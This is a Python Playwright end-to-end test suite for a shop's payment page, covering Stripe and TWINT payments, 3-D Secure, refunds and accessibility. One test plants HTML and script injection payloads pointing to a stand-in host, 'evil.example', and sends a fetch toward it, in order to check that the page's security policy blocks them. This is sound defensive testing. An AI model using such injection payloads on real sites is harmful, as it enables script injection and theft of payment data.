"""Two browsers, one purchase, Stripe's real SDK and its double: form, 3-D Secure, TWINT, refunds;
and a pay page on which nothing runs but Stripe's script and ours.
"""

import re
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, Route, expect

from tests import loopback
from tests.callers import Api
from tests.e2e.axe import grave
from tests.e2e.browsers import person, until
from tests.e2e.deployments import PaymentServer, payment_server
from tests.e2e.people import Advisor, Shopper
from tests.e2e.test_purchase import TAMPER
from tests.e2e.tills import (
    CHECKED,
    NO_FUNDS,
    PAYS,
    WATCH,
    Till,
    canaries,
    give_back,
    overhear,
    reports,
    same_order,
    stays_with_the_shop,
    till,
    to_the_till,
)
from tests.process.story import approve, fill_address
from tests.servers import LONG

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

LOCALES = {"en": "en-GB", "de": "de-CH"}
PEOPLE = [("en", False), ("de", True), ("en", True), ("de", False)]
WAYS = ["stripe/card", "mollie/card", "stripe/twint"]
NOTHING_CHARGED = re.compile("nothing was charged|nichts belastet", re.IGNORECASE)
EVIL = "https://evil.example/x.js"
PLANTED = f"""
<script src="{EVIL}"></script>
<script>window.ran = true</script>
<img src="x" onerror="window.ran = true">
<svg onload="window.ran = true"></svg>
<iframe srcdoc="<script>parent.ran = true</script>"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/x.css">
<img src="https://evil.example/seen.png">
<base href="https://evil.example/">
"""
BLOCKED = (
    "script-src-elem",
    "script-src-attr",
    "style-src-elem",
    "frame-src",
    "img-src",
    "connect-src",
    "base-uri",
)
"""What the page's policy must have stopped of it."""


async def intents(money: PaymentServer, session_id: str) -> list[dict[str, Any]]:
    """Return what Stripe has of a session."""
    async with loopback.client() as client:
        state = await client.get(f"{money.company('stripe').url}/_double/state")
    return [item for item in state.json() if session_id in item["metadata"].values()]


@pytest.mark.parametrize(("lang", "phone"), PEOPLE if LONG else PEOPLE[:2])
async def test_declined_checked_and_paid_by_card(
    browser: Browser, money: PaymentServer, mira: Advisor, lang: str, phone: bool
) -> None:
    context = await person(browser, phone=phone, locale=LOCALES[lang])
    shopper = Shopper(await context.new_page(), money)
    heard = overhear(shopper.page)
    page = await to_the_till(shopper, mira, lang)
    await page.page.emulate_media(color_scheme="dark" if phone else "light")
    await expect(page.page.locator("theke-pay fieldset")).to_contain_text("(stripe)")
    await page.choose("stripe/card")
    await page.order()
    form = page.page.frame_locator('theke-pay iframe[name^="__privateStripeFrame"]')
    await expect(form.get_by_role("alert")).to_have_text(re.compile("incomplete|unvollständig"))
    ink = str(await page.page.evaluate("getComputedStyle(document.body).color"))
    await expect(form.locator("body")).to_have_css("color", ink)
    assert await grave(page.page) == []
    await page.shot(f"stripe-form-{lang}")
    for other, label in (("DE", "Kartennummer"), ("EN", "Card number")):
        await page.page.get_by_role("button", name=other, exact=True).click()
        await expect(form.get_by_label(label)).to_be_visible()
    await page.page.get_by_role("button", name=lang.upper(), exact=True).click()
    await page.card(NO_FUNDS)
    await page.says(NOTHING_CHARGED)
    await expect(mira.at("payment")).to_contain_text(
        re.compile("did not go through|ging nicht durch")
    )
    await page.shot(f"stripe-declined-{lang}")
    await page.card(CHECKED)
    await page.answer_check("fail")
    await page.says(NOTHING_CHARGED)
    await page.card(CHECKED)
    await expect(page.page.locator('iframe[title="3D Secure"]')).to_be_visible()
    await page.shot(f"stripe-check-{lang}")
    await mira.shot(f"stripe-check-desk-{lang}")
    await page.page.reload()
    await expect(page.page.locator('iframe[title="3D Secure"]')).to_be_visible()
    assert [name for name in await grave(page.page) if "stripe.localhost" not in name] == []
    await page.answer_check("pass")
    await page.reads(re.compile("Thank you|Danke"))
    assert await grave(page.page) == []
    await page.shot(f"stripe-paid-{lang}")
    await mira.phase("completed")
    session_id = (await shopper.credentials())["session_id"] if not phone else ""
    await page.back()
    await same_order(shopper, mira)
    found = await intents(money, session_id or (await shopper.credentials())["session_id"])
    assert [(entry["status"], entry["received"]) for entry in found] == [
        ("succeeded", found[0]["amount"])
    ]
    assert canaries("\n".join(heard)) == []
    assert shopper.errors == page.errors == []
    await context.close()


async def test_twint_in_the_pay_window_with_the_call_staying(
    browser: Browser, money: PaymentServer, mira: Advisor
) -> None:
    """Stripe's script does not load for this shopper, who pays another way."""
    context = await person(browser)
    await context.route("**/stripe.js", lambda route: route.abort())
    shopper = Shopper(await context.new_page(), money)
    page = await to_the_till(shopper, mira)
    await page.choose("stripe/card")
    await page.says("The card form did not answer.")
    assert await grave(page.page) == []
    await page.choose("stripe/twint")
    await page.order()
    await page.at_company("stripe")
    await stays_with_the_shop(shopper.page, money.shop)
    await shopper.shot("stripe-twint-panel-stays")
    await page.press_at_company("fail")
    await page.says(NOTHING_CHARGED)
    await page.order()
    await page.at_company("stripe")
    await page.page.go_back()
    await page.page.get_by_role("button", name="Go to the bank").click()
    await page.at_company("stripe")
    await page.press_at_company("pass")
    await page.reads("Thank you, your order is placed")
    assert "secret" not in page.page.url
    await same_order(shopper, mira)
    await give_back(money, shopper, "a1", "2.00")
    for screen in (shopper, mira):
        await expect(screen.at("payment")).to_contain_text("2.00")
    (entry,) = await intents(money, (await shopper.credentials())["session_id"])
    assert (entry["received"], entry["refunded"]) == (entry["amount"], 200)
    assert shopper.errors == page.errors == []
    await context.close()


async def test_theke_dies_during_the_banks_check_and_the_purchase_goes_on(
    browser: Browser, money: PaymentServer, mira: Advisor
) -> None:
    context = await person(browser)
    shopper = Shopper(await context.new_page(), money)
    page = await to_the_till(shopper, mira)
    await page.choose("stripe/card")
    await page.card(CHECKED)
    await expect(page.page.locator('iframe[title="3D Secure"]')).to_be_visible()
    money.process.kill()
    await page.answer_check("pass")
    await page.says("No connection. We keep trying")
    await money.process.start()
    await page.reads("Thank you, your order is placed")
    await shopper.phase("completed")
    await mira.phase("completed")
    (entry,) = await intents(money, (await shopper.credentials())["session_id"])
    assert (entry["status"], entry["received"]) == ("succeeded", entry["amount"])
    await context.close()


async def test_a_second_tab_never_pays_the_old_amount(
    browser: Browser, money: PaymentServer, mira: Advisor
) -> None:
    """Bug by name: second tab pays the old amount."""
    context = await person(browser)
    shopper = Shopper(await context.new_page(), money)
    deaf = re.compile(r"/v1/pay\?since=")

    async def unheard(route: Route) -> None:
        """The old tab hears nothing after it was opened."""

    await context.route(deaf, unheard)
    old = await to_the_till(shopper, mira)
    await old.choose("stripe/card")
    await old.type_card(PAYS)
    answers: list[int] = []
    await mira.line(TAMPER).get_by_test_id("line-more").click()
    await shopper.at("look-again").click()
    await shopper.approve()
    new = await till(shopper)  # its key has taken the place of the old one's
    old.page.on("response", lambda got: answers.append(got.status) if "start" in got.url else None)
    await old.order()
    await old.reads("This page cannot pay any more")
    assert answers
    assert all(status >= 400 for status in answers)
    session_id = (await shopper.credentials())["session_id"]
    assert await intents(money, session_id) == []
    await context.unroute(deaf)
    await new.page.reload()
    await new.choose("stripe/card")
    await new.card(PAYS)
    await new.reads("Thank you, your order is placed")
    (entry,) = await intents(money, session_id)
    assert entry["amount"] == entry["received"]
    await context.close()


async def test_what_is_planted_on_the_pay_page_does_not_run(
    browser: Browser, money: PaymentServer, mira: Advisor
) -> None:
    context = await person(browser)
    await context.add_init_script(WATCH)
    asked: list[str] = []

    async def planted(route: Route) -> None:
        """Somebody between us and the shopper adds to the page, but not to its policy."""
        answer = await route.fetch()
        html = (await answer.text()).replace("</body>", f"{PLANTED}</body>")
        await route.fulfill(response=answer, body=html)

    async def evil(route: Route) -> None:
        asked.append(route.request.url)
        await route.fulfill(content_type="text/javascript", body="window.ran = true")

    # A page that came from a test counts as one of the internet, which may not load from here.
    await context.grant_permissions(["local-network-access"], origin=money.theke)
    await context.route("**/pay/demo", planted)
    await context.route("https://evil.example/**", evil)
    shopper = Shopper(await context.new_page(), money)
    page = await to_the_till(shopper, mira)
    await page.choose("stripe/card")
    await page.type_card(PAYS)
    await page.page.evaluate(
        "(src) => document.head.append(Object.assign(document.createElement('script'), {src}))",
        EVIL,
    )
    await page.page.evaluate("fetch('https://evil.example/card').catch(() => 0)")
    blocked = "window.reports.filter((one) => one.includes('evil.example')).length >= 6"
    await until(page.page, blocked)
    assert asked == []
    for frame in page.page.frames:
        assert not await frame.evaluate("Boolean(window.ran)"), frame.url
    blocked_by = " ".join(await page.page.evaluate("window.reports"))
    for directive in BLOCKED:
        assert directive in blocked_by, blocked_by
    assert "stripe.localhost" not in blocked_by
    await page.order()
    await page.reads("Thank you, your order is placed")
    await context.close()


@pytest.mark.parametrize("way", WAYS if LONG else WAYS[:2])
async def test_a_full_purchase_gives_no_report_of_any_policy(
    browser: Browser, money: PaymentServer, mira: Advisor, way: str
) -> None:
    context = await person(browser)
    await context.add_init_script(WATCH)
    shopper = Shopper(await context.new_page(), money)
    page = await to_the_till(shopper, mira)
    await page.choose(way)
    if way == "stripe/card":
        await page.card(CHECKED)
        check = page.page.frame_locator('iframe[title="3D Secure"]')
        await expect(check.locator('button[value="pass"]')).to_be_visible()
        assert await reports(context) == []
        await page.answer_check("pass")
    else:
        await page.order()
        company = way.partition("/")[0]
        await page.at_company(company)
        await page.press_at_company("pass" if company == "stripe" else "paid")
    await page.reads("Thank you, your order is placed")
    await shopper.phase("completed")
    assert await reports(context) == []
    policy = (await page.page.request.get(page.page.url)).headers["content-security-policy"]
    hosts = set(re.findall(r"https?://[^\s;]+", policy))
    assert hosts == {money.company("stripe").browser_url}
    assert "unsafe" not in policy
    await context.close()


async def test_by_keyboard_alone_with_stripes_form(
    browser: Browser, money: PaymentServer, mira: Advisor
) -> None:
    context = await person(browser)
    shopper = Shopper(await context.new_page(), money)
    page: Till = await to_the_till(shopper, mira)
    await expect(page.page.locator('theke-pay input[value="stripe/card"]')).to_be_checked()
    form = page.page.frame_locator('theke-pay iframe[name^="__privateStripeFrame"]')
    await expect(form.locator("#number")).to_be_visible()
    for text in ("", "", "", "", PAYS, "1239", "737"):
        await page.page.keyboard.press("Tab")
        if text:
            await page.page.keyboard.type(text)
    await page.page.keyboard.press("Tab")
    while not await page.page.evaluate(
        "document.querySelector('theke-pay').shadowRoot.activeElement?.matches('button.main')"
    ):
        await page.page.keyboard.press("Tab")
    await page.page.keyboard.press("Enter")
    await page.reads("Thank you, your order is placed")
    await context.close()


async def test_an_amount_that_no_way_takes_is_said_and_the_cart_is_kept(
    browser: Browser, tmp_path: Path
) -> None:
    """TWINT takes 5,000 francs at most, and this shop has nothing else."""
    options = '[providers.stripe.options]\nmethods = "twint"\n'
    async with payment_server(tmp_path, ("stripe",), options) as server, Api(server.theke) as api:
        shopper = await api.shopper()
        found = await api.get_json("/v1/shops/demo/products?limit=50", shopper.token)
        dear = max(
            (item for item in found["products"] if item["stock"] is None or item["stock"] > 2),
            key=lambda item: item["price"]["amount"],
        )
        quantity = 500_000 // dear["price"]["amount"] + 1
        await shopper.done("add_line", sku=dear["sku"], quantity=quantity)
        await fill_address(shopper)
        await approve(shopper)
        context = await person(browser, phone=True, locale="de-CH")
        page = Till(await context.new_page())
        link = await api.post_json("/v1/pay-links", {}, shopper.token)
        await page.page.goto(link["url"])
        await page.says("This shop has no way to pay this amount here.")
        assert await page.page.locator("theke-pay button.main, theke-pay fieldset").count() == 0
        await page.page.get_by_role("button", name="DE", exact=True).click()
        await page.says("Ihr Warenkorb bleibt")
        assert await grave(page.page) == []
        await page.shot("no-way-to-pay-de")
        assert shopper.phase == "approved"
        assert await intents(server, shopper.session_id) == []
        await context.close()
        await shopper.close()
